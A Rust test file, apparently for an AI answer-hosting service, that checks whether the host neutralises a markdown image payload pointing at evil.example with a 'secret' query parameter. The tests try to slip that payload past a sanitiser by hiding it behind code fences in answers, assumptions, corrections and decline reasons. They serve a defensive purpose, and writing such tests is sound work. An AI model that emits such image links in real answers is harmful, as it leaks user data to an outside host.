//! A model that obeys hides an image behind a code fence which only one of the server and the client sees.

use mindhost_tests::{ScriptedModel, Turn, Value, json};

use super::both;

const IMAGE: &str = "![x](https://evil.example/?d=secret)";
const BROKEN: &str = "![x] (https:/ /evil.example/?d=secret)";

/// A call that reads, with this assumption.
fn read(turn: Turn, assumption: &str) -> Turn {
    let sql = "SELECT count(*) FROM hr.staff";
    turn.and_call("run_sql", json!({"sql": sql, "assumptions": [assumption]}))
}

/// The item of the answer that these turns make.
async fn answered(turns: impl IntoIterator<Item = Turn>) -> Value {
    let model = ScriptedModel::start(turns).await;
    let (_host, mind) = both(&model).await;
    let response = mind.ask("How many are on the staff?").await;
    response.expect_status(200).json()["output"][0].clone()
}

fn text(item: &Value) -> &str {
    item["content"][0]["text"].as_str().unwrap()
}

#[tokio::test]
async fn fence_in_an_assumption_hides_no_image_of_the_answer() {
    let item = answered([read(Turn::empty(), "```"), Turn::text(IMAGE)]).await;
    assert_eq!(text(&item), BROKEN);
    assert_eq!(item["assumptions"], json!(["```"]));
}

#[tokio::test]
async fn fence_in_an_answer_hides_no_image_of_an_assumption() {
    let code = Turn::text("```\ncode");
    let item = answered([read(code, IMAGE), Turn::text("```\nDone.")]).await;
    assert_eq!(item["assumptions"], json!([BROKEN]));
    assert_eq!(text(&item), "```\ncode\n\n```\nDone.");
}

#[tokio::test]
async fn fence_that_a_later_turn_closes_hides_no_image() {
    let later = Turn::text("```\n").and_text(IMAGE);
    let item = answered([read(Turn::text("```\ncode"), "None."), later]).await;
    assert_eq!(text(&item), format!("```\ncode\n\n```\n{BROKEN}"));
    // Nor does one that nothing closes: some renderers take it for text.
    let item = answered([read(Turn::text("```\ncode"), "None."), Turn::text(IMAGE)]).await;
    assert_eq!(text(&item), format!("```\ncode\n\n{BROKEN}"));
    let open = Turn::text("```\n").and_text(IMAGE);
    let item = answered([read(open, "None."), Turn::text("```\nDone.")]).await;
    assert_eq!(text(&item), format!("```\n{BROKEN}\n\n```\nDone."));
    let whole = format!("```\n{IMAGE}\n```");
    let item = answered([read(Turn::text(&whole), "None."), Turn::text("Done.")]).await;
    assert_eq!(text(&item), format!("{whole}\n\nDone."));
}

#[tokio::test]
async fn fence_in_an_answer_hides_no_image_in_what_the_host_adds() {
    let decline = Turn::text("```\ncode").and_call("cannot_answer", json!({"reason": IMAGE}));
    let item = answered([decline]).await;
    let start = format!("```\ncode\n\n{BROKEN}");
    assert!(text(&item).starts_with(&start), "{item}");
}

#[tokio::test]
async fn fence_that_a_correction_closes_hides_no_image() {
    let wrong = Turn::text("987654 are on the staff:\n```\ncode");
    // Without its first spaces, as it is shown, the line ends the code.
    let correction = Turn::empty().and_text("    ```\n").and_text(IMAGE);
    let item = answered([read(Turn::empty(), "None."), wrong, correction]).await;
    assert!(
        text(&item).ends_with(&format!("\n\n```\n{BROKEN}")),
        "{item}"
    );
}
